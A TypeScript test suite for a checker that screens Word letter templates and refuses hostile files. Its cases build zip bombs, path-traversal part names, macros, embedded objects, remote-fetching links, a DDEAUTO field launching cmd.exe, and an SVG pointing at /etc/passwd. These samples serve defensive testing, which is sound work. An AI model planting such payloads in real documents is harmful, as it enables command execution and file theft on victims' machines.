import PizZip from 'pizzip'
import { describe, expect, it } from 'vitest'
import { shippedTemplate } from '../../../src/office/letters/render/render.ts'
import { checkTemplate } from '../../../src/office/templates/check/check.ts'
import { plainDate } from '../../../src/terms/plain-date.ts'
import { zipOf } from '../../faults/zip.ts'
import { office as profile } from '../letters/render-fixtures.ts'
import { append, edit, editBody, MAIN, paragraph, RESOURCES, relate, shipped } from './edit.ts'

const office = { profile, today: plainDate('2026-11-20') }
const summons = shipped('panggilan-1')
const WORD = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
const RELS = 'word/_rels/document.xml.rels'

/** What is said of a hostile file: one refusal, before anything is filled. */
function refusal(bytes: Uint8Array): string {
  const findings = checkTemplate('panggilan-1', bytes, office, (of) => shippedTemplate(of, RESOURCES))
  expect(findings.map(({ severity }) => severity)).toEqual(['refused'])
  return findings[0]?.message ?? ''
}

/** The parts of the shipped template, to be zipped again by hand. */
const parts = () =>
  Object.entries(new PizZip(summons).files).map(([name, file]) => ({ name, bytes: file.asUint8Array() }))

const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

describe('a file that could harm', () => {
  it('zipped again by hand it is still a good template', () => {
    expect(
      checkTemplate('panggilan-1', zipOf(parts()), office, (of) => shippedTemplate(of, RESOURCES)),
    ).toEqual([])
  })

  it('a zip bomb of pictures is refused before it is unpacked', () => {
    const bomb = { name: 'word/media/image9.png', bytes: new Uint8Array(200 * 1024 * 1024) }
    expect(refusal(zipOf([...parts(), bomb]))).toContain('jauh lebih besar')
  })

  it('a zip bomb that lies about its size is refused too', () => {
    const bomb = { name: 'word/media/image9.png', bytes: new Uint8Array(200 * 1024 * 1024), says: 1000 }
    expect(refusal(zipOf([...parts(), bomb]))).toContain('lebih besar daripada yang dikatakannya')
  })

  it.each([
    '../../../../tmp/tegas-jahat.txt',
    'word/../../jahat.xml',
    '/etc/jahat',
    'C:\\Windows\\jahat.dll',
    'word\\..\\..\\jahat.xml',
  ])('a part that points out of the file: %s', (name) => {
    expect(refusal(zipOf([...parts(), { name, bytes: Buffer.from('x') }]))).toContain(
      'menunjuk ke luar berkas',
    )
  })

  it('two parts of one name', () => {
    const [body] = parts().filter(({ name }) => name === MAIN)
    if (!body) throw new Error('no body')
    expect(refusal(zipOf([...parts(), body]))).toContain('nama yang sama')
  })

  it.each([
    ['attachedTemplate', 'https://jahat.invalid/a.dotm', /Lepaskan di Word/],
    ['attachedTemplate', 'file:///C:/Templat/kantor.dotx', /Lepaskan di Word/],
    ['image', 'https://jahat.invalid/pixel.png', /Sisipkan gambarnya/],
    ['hyperlink', 'https://jahat.invalid/', /Hapus Hyperlink/],
    ['oleObject', '\\\\server\\berbagi\\x.xlsx', /menunjuk ke luar/],
    ['frame', 'http://jahat.invalid/', /menunjuk ke luar/],
  ])('a link out of the file: %s %s', (type, target, says) => {
    expect(refusal(edit(summons, { [RELS]: relate(type, target, true) }))).toMatch(says)
  })

  it('a link out of the file hidden as an inner one', () => {
    expect(
      refusal(edit(summons, { [RELS]: relate('image', 'http://jahat.invalid/a.png', false) })),
    ).toContain('menunjuk ke luar')
  })

  it('a link to an address of e-mail, as Word makes one in the kop, is no harm', () => {
    const bytes = edit(summons, { [RELS]: relate('hyperlink', 'mailto:itda@rimbaraya.example', true) })
    expect(checkTemplate('panggilan-1', bytes, office, (of) => shippedTemplate(of, RESOURCES))).toEqual([])
  })

  it.each(['oleObject', 'package', 'aFChunk', 'subDocument', 'control'])('something embedded: %s', (type) => {
    expect(refusal(edit(summons, { [RELS]: relate(type, 'embeddings/a.dat', false) }))).toContain('memuat')
  })

  it('a file lying in the embeddings without a relation', () => {
    const ole = { name: 'word/embeddings/oleObject1.bin', bytes: Buffer.from('x') }
    expect(refusal(zipOf([...parts(), ole]))).toContain('berkas lain')
  })

  it('macros', () => {
    const macro = { name: 'word/vbaProject.bin', bytes: Buffer.from('x') }
    expect(refusal(zipOf([...parts(), macro]))).toContain('makro')
    const docm = edit(summons, {
      '[Content_Types].xml': (xml) =>
        xml.replace(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
    })
    expect(refusal(docm)).toContain('makro')
  })

  it.each([
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'INCLUDEPICTURE "http://jahat.invalid/a.png" \\d',
    'INCLUDETEXT "C:\\\\rahasia.docx"',
    'HYPERLINK "http://jahat.invalid"',
    'MACROBUTTON Jahat klik',
  ])('a field that fetches or runs: %s', (instruction) => {
    expect(refusal(editBody(summons, append(field(instruction))))).toContain('field')
  })

  it('such a field cut into runs', () => {
    const cut =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    expect(refusal(editBody(summons, append(cut)))).toContain('field')
  })

  it('page numbers and dates are fields too, and stay', () => {
    const bytes = editBody(
      summons,
      append(field(' PAGE ') + field(' NUMPAGES ') + field(' DATE \\@ "d MMMM yyyy" ')),
    )
    expect(checkTemplate('panggilan-1', bytes, office, (of) => shippedTemplate(of, RESOURCES))).toEqual([])
  })

  it('a field written over two paragraphs, or under another prefix', () => {
    const over =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLU</w:instrText></w:r></w:p><w:p><w:r><w:instrText>DETEXT "c:\\\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    expect(refusal(editBody(summons, append(over)))).toContain('field')
    const simple = `<q:p xmlns:q="${WORD}"><q:fldSimple q:instr="DDEAUTO cmd"><q:r><q:t>x</q:t></q:r></q:fldSimple></q:p>`
    expect(refusal(editBody(summons, append(simple)))).toContain('field')
  })

  it('a tag inside a field would never be filled', () => {
    expect(refusal(editBody(summons, append(field(' QUOTE &quot;{nama}&quot; '))))).toContain(
      'tidak akan terisi',
    )
  })

  it('a relation under another prefix', () => {
    const prefixed = (rels: string) =>
      relate(
        'attachedTemplate',
        'http://jahat.invalid/a.dotm',
        true,
      )(rels)
        .replace(/<(\/?)Relationship/g, '<$1r:Relationship')
        .replace('xmlns=', 'xmlns:r=')
    expect(refusal(edit(summons, { [RELS]: prefixed }))).toMatch(/Lepaskan di Word/)
  })

  it('a mail merge without any relation', () => {
    const merge = '<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>'
    expect(
      refusal(
        edit(summons, {
          'word/settings.xml': (xml) => xml.replace('</w:settings>', `${merge}</w:settings>`),
        }),
      ),
    ).toContain('Mail Merge')
  })

  it('pictures that name an address themselves: of old Word, and as SVG', () => {
    const old =
      '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://jahat.invalid/a.png"/></v:shape></w:pict></w:r></w:p>'
    expect(refusal(editBody(summons, append(old)))).toContain('menunjuk ke luar')
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    expect(refusal(zipOf([...parts(), { name: 'word/media/a.svg', bytes: Buffer.from(svg) }]))).toContain(
      'menunjuk ke luar',
    )
  })

  it('another archive carried along', () => {
    expect(refusal(zipOf([...parts(), { name: 'word/media/a.zip', bytes: zipOf(parts()) }]))).toContain(
      'berkas lain',
    )
  })

  it('a box for the number that Word fills from somewhere else', () => {
    const bound = (xml: string) =>
      xml.replace('<w:alias w:val="Nomor"/>', '$&<w:dataBinding w:xpath="/a" w:storeItemID="{0}"/>')
    expect(refusal(editBody(summons, bound))).toContain('terikat')
  })

  it('references and letters that no XML may hold: Word would call every letter damaged', () => {
    for (const text of ['&jahat;', '&#0;', '&#xD800;', '\u0000', '\uffff'])
      expect(refusal(editBody(summons, append(paragraph(text))))).toContain('rusak')
  })

  describe('a zip whose table of contents says something else than its parts', () => {
    /** Another name beside the part than in the table. */
    function disguised(inTable: string, beside: string): Uint8Array {
      const zip = Buffer.from(zipOf([...parts(), { name: inTable, bytes: Buffer.from('x') }]))
      zip.write(beside, zip.indexOf(inTable))
      return zip
    }

    it('a part under two names', () => {
      expect(refusal(disguised('word/media/aaaa.bin', 'word/vbaProject.bin'))).toContain('rusak')
      expect(refusal(disguised('word/aaaaaaaa.xml', MAIN))).toContain('rusak')
    })

    it('more parts than it counts', () => {
      const zip = Buffer.from(zipOf([...parts(), { name: 'word/vbaProject.bin', bytes: Buffer.from('x') }]))
      const end = zip.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
      zip.writeUInt16LE(parts().length, end + 10)
      expect(refusal(zip)).toMatch(/bukan dokumen Word/)
    })

    it('a main part that is not called XML, so that its size goes unseen', () => {
      const other = (text: string) => text.replaceAll('word/document.xml', 'word/document.dat')
      const bytes = zipOf(
        parts().map((part) => ({
          name: other(part.name),
          bytes: /\.rels$|Types\]/.test(part.name)
            ? Buffer.from(other(Buffer.from(part.bytes).toString()))
            : part.bytes,
        })),
      )
      expect(refusal(bytes)).toMatch(/bukan dokumen Word/)
    })
  })

  it('a hundred thousand paragraphs are refused at once, not after half a minute', () => {
    expect(refusal(editBody(summons, append(paragraph('Isi surat.').repeat(100_000))))).toContain(
      'jauh lebih panjang',
    )
    expect(refusal(editBody(summons, append(`<w:p>${'<w:r/>'.repeat(1_000_000)}</w:p>`)))).toContain(
      'jauh lebih panjang',
    )
  })

  it('a hundred thousand unknown tags, or known ones', () => {
    expect(refusal(editBody(summons, append(paragraph('{xyzzy}'.repeat(100_000)))))).toContain('lebih dari')
    expect(refusal(editBody(summons, append(paragraph('{nama}'.repeat(100_000)))))).toContain('lebih dari')
  })

  it('a line of millions of letters is only long', () => {
    const bytes = editBody(summons, append(paragraph('x'.repeat(5_000_000))))
    expect(checkTemplate('panggilan-1', bytes, office, (of) => shippedTemplate(of, RESOURCES))).toEqual([])
  })

  it('50 MB', () => {
    expect(refusal(new Uint8Array(50 * 1024 * 1024))).toContain('lebih besar dari 10 MB')
  })

  it.each([
    ['nothing', new Uint8Array(0)],
    ['no zip', Buffer.from('bukan dokumen')],
    ['an old .doc', Buffer.from('d0cf11e0a1b11ae1000000', 'hex')],
    ['a zip that is no document', zipOf([{ name: 'a.txt', bytes: Buffer.from('x') }])],
    [
      'a document type of its own (entities)',
      editBody(summons, (xml) => xml.replace('<w:document', '<!DOCTYPE a [<!ENTITY b "c">]><w:document')),
    ],
    ['elements nested without end', editBody(summons, append('<w:p>'.repeat(5000) + '</w:p>'.repeat(5000)))],
    ['half a file', summons.subarray(0, summons.length / 2)],
  ])('%s', (_, bytes) => {
    expect(refusal(bytes)).toMatch(/\S/)
  })
})
